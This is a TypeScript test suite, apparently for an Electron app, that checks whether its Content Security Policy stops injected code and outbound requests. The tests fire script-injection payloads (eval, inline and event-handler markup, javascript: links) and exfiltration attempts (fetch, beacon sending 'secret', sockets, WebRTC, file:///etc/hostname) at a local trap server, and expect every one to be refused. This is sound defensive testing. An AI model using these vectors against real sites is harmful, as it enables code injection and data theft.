/**
 * The policy of the page: whatever code or markup gets into it can load nothing, run nothing that is not the app's, and
 * reach nobody. A server of this machine stands for the outside; the page's own refusals tell what stopped each attempt.
 */
import { expect, test } from "../hosts/fixture.ts";
import { attack, watchPolicy } from "../hosts/hostile-page.ts";
import { startTrap, type TrapServer } from "../hosts/trap-server.ts";

let trap: TrapServer;
test.beforeEach(async () => {
  trap = await startTrap();
});
test.afterEach(async () => trap.close());

test("the trap hears who reaches it", async () => {
  await fetch(`http://${trap.host}/hello`);
  expect(trap.heard()).toEqual(["connection", "GET /hello HTTP/1.1"]);
});

test("no script runs but the app's own", async ({ launchApp }) => {
  const app = await launchApp();
  const page = await app.firstWindow();
  const refusals = await watchPolicy(page);
  const outcomes = await attack(page, trap.host, async ({ attempt, loading, outside }) => {
    const script = (change: (element: HTMLScriptElement) => void) => {
      const element = document.createElement("script");
      change(element);
      return element;
    };
    const own = (type: string) => URL.createObjectURL(new Blob(["globalThis.intruded = true"], { type }));
    // biome-ignore lint/security/noGlobalEval: the attack
    await attempt("eval", () => globalThis.eval("1"));
    await attempt("Function", () => new Function("return 1")());
    await attempt("timer of text", () => setTimeout("globalThis.intruded = true"));
    await attempt("WebAssembly", () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
    await attempt("inline script", () => {
      document.body.append(script((element) => (element.textContent = "globalThis.intruded = true")));
      return Reflect.get(globalThis, "intruded");
    });
    await attempt("script from outside", () => loading(script((element) => (element.src = `http://${outside}/a.js`))));
    await attempt("module from outside", () => import(/* @vite-ignore */ `http://${outside}/b.js`));
    await attempt("blob script", () => loading(script((element) => (element.src = own("text/javascript")))));
    await attempt("data script", () => loading(script((element) => (element.src = "data:text/javascript,intruded=1"))));
    await attempt("event attribute", () => {
      const button = document.createElement("button");
      button.setAttribute("onclick", "globalThis.intruded = true");
      button.click();
      return Reflect.get(globalThis, "intruded");
    });
    await attempt("event attribute of markup", () => {
      const holder = document.createElement("div");
      document.body.append(holder);
      holder.innerHTML = `<svg onload="intruded=1"></svg><details open ontoggle="intruded=1"></details>`;
      return Reflect.get(globalThis, "intruded");
    });
    await attempt("javascript link", () => {
      const link = document.createElement("a");
      link.href = "javascript:globalThis.intruded=true";
      document.body.append(link);
      link.click();
      return Reflect.get(globalThis, "intruded");
    });
    const worker = (address: string) =>
      new Promise((resolve) => {
        new Worker(address).addEventListener("error", (event) => {
          event.preventDefault();
          resolve("error");
        });
      });
    await attempt("worker of a blob", () => worker(own("text/javascript")));
    await attempt("worker of data", () => worker("data:text/javascript,1"));
    await attempt("worker from outside", () => worker(`http://${outside}/w.js`));
    await attempt(
      "shared worker",
      () =>
        new Promise((resolve) => {
          new SharedWorker(own("text/javascript")).addEventListener("error", () => resolve("error"));
        }),
    );
  });
  expect(outcomes).toEqual({
    eval: "EvalError",
    Function: "EvalError",
    "timer of text": expect.stringMatching(/EvalError|^0$/u),
    WebAssembly: "CompileError",
    "inline script": "undefined",
    "script from outside": "error",
    "module from outside": "TypeError",
    "blob script": "error",
    "data script": "error",
    "event attribute": "undefined",
    "event attribute of markup": "undefined",
    "javascript link": "undefined",
    "worker of a blob": "error",
    "worker of data": "error",
    "worker from outside": expect.stringMatching(/error|SecurityError/u),
    "shared worker": "error",
  });
  expect(await page.evaluate(() => Reflect.get(globalThis, "intruded"))).toBeUndefined();
  expect(await refusals()).toEqual(
    expect.arrayContaining(["script-src eval", "script-src-elem inline", "script-src-attr inline"]),
  );
  expect(trap.heard()).toEqual([]);
});

test("nothing is loaded from outside, and nothing is sent there", async ({ launchApp }) => {
  const app = await launchApp();
  const page = await app.firstWindow();
  const refusals = await watchPolicy(page);
  const outcomes = await attack(page, trap.host, async ({ attempt, loading, outside }) => {
    const make = <K extends keyof HTMLElementTagNameMap>(name: K, attributes: Record<string, string>) => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      return element;
    };
    const address = `http://${outside}`;
    await attempt("picture", () => loading(make("img", { src: `${address}/p.png` })));
    await attempt("picture of data", () => loading(make("img", { src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" })));
    await attempt("file", () => loading(make("img", { src: "file:///etc/hostname" })));
    await attempt("style sheet", () => loading(make("link", { rel: "stylesheet", href: `${address}/s.css` })));
    await attempt("style in the page", () => {
      const style = make("style", {});
      style.textContent = `@import "${address}/i.css"; body { background: url("${address}/bg.png") }`;
      document.body.append(style);
      return getComputedStyle(document.body).backgroundImage;
    });
    await attempt("style of an element", () => {
      const element = make("div", { style: `background: url("${address}/div.png")` });
      document.body.append(element);
      return getComputedStyle(element).backgroundImage;
    });
    await attempt("font", () => new FontFace("Outside", `url("${address}/f.woff2")`).load());
    await attempt("film", () => loading(make("video", { src: `${address}/v.mp4` })));
    await attempt("object", () => loading(make("object", { data: `${address}/o.pdf` })));
    await attempt("fetch", () => fetch(`${address}/x`));
    await attempt("fetch without reply", () => fetch(`${address}/x`, { mode: "no-cors", keepalive: true }));
    await attempt("fetch of a file of ours", () => fetch(`${location.origin}/index.html`));
    await attempt("fetch of a local file", () => fetch("file:///etc/hostname"));
    await attempt(
      "request",
      () =>
        new Promise((resolve) => {
          const request = new XMLHttpRequest();
          request.addEventListener("loadend", () => resolve(request.status));
          request.open("GET", `${address}/xhr`);
          request.send();
        }),
    );
    await attempt(
      "socket",
      () =>
        new Promise((resolve) => {
          const socket = new WebSocket(`ws://${outside}/ws`);
          socket.addEventListener("error", () => resolve("error"));
          socket.addEventListener("open", () => resolve("open"));
        }),
    );
    await attempt(
      "events",
      () =>
        new Promise((resolve) => {
          const events = new EventSource(`${address}/events`);
          events.addEventListener("error", () => resolve("error"));
          events.addEventListener("open", () => resolve("open"));
        }),
    );
    await attempt("transport", () => new WebTransport(`https://${outside}/`).ready);
    await attempt("beacon", () => {
      navigator.sendBeacon(`${address}/beacon`, "secret");
      return "sent or not";
    });
    await attempt("hints", () => {
      for (const rel of [
        "preconnect",
        "dns-prefetch",
        "prefetch",
        "preload",
        "modulepreload",
        "manifest",
        "icon",
        "prerender",
      ])
        document.head.append(make("link", { rel, href: `${address}/${rel}`, as: "script" }));
      const rules = make("script", { type: "speculationrules" });
      rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [`${address}/speculated`] }] });
      document.head.append(rules);
      return "given";
    });
    await attempt("data channel", async () => {
      const servers = [`stun:${outside}`, `turn:${outside}?transport=tcp`].map((urls) => ({
        urls,
        username: "a",
        credential: "b",
      }));
      const connection = new RTCPeerConnection({ iceServers: servers });
      const found: string[] = [];
      connection.addEventListener(
        "icecandidate",
        ({ candidate }) => candidate?.candidate && found.push(candidate.candidate),
      );
      const other = new RTCPeerConnection();
      connection.createDataChannel("out");
      await connection.setLocalDescription(await connection.createOffer());
      await other.setRemoteDescription(connection.localDescription ?? { type: "offer", sdp: "" });
      await other.setLocalDescription(await other.createAnswer());
      await connection.setRemoteDescription(other.localDescription ?? { type: "answer", sdp: "" });
      // Somebody outside who can be reached without any server.
      const [host = "", port = ""] = outside.split(":");
      for (const protocol of ["udp", "tcp"]) {
        const type = protocol === "tcp" ? " tcptype passive" : "";
        const candidate = `candidate:1 1 ${protocol} 2122260223 ${host} ${port} typ host${type}`;
        await connection.addIceCandidate({ candidate, sdpMid: "0", sdpMLineIndex: 0 });
      }
      return found.join(" | ");
    });
  });
  expect(outcomes).toMatchObject({
    picture: "error",
    "picture of data": "error",
    file: "error",
    "style sheet": "error",
    "style in the page": "none",
    "style of an element": "none",
    font: "NetworkError",
    film: "error",
    object: "error",
    fetch: "TypeError",
    "fetch without reply": "TypeError",
    "fetch of a file of ours": "TypeError",
    "fetch of a local file": "TypeError",
    request: "0",
    socket: expect.stringMatching(/error|silence/u),
    events: "error",
    transport: "WebTransportError",
  });
  const directives = new Set((await refusals()).map((refusal) => refusal.split(" ", 1)[0]));
  for (const directive of [
    "img-src",
    "style-src-elem",
    "style-src-attr",
    "font-src",
    "media-src",
    "object-src",
    "connect-src",
  ])
    expect(directives).toContain(directive);
  // No policy of a page stops a data channel; that is a setting of Electron's, which the stand-in's browser lacks.
  if (app.electron) expect(outcomes["data channel"]).toBe("");
  expect(trap.heard().filter((line) => app.electron || line !== "datagram")).toEqual([]);
});
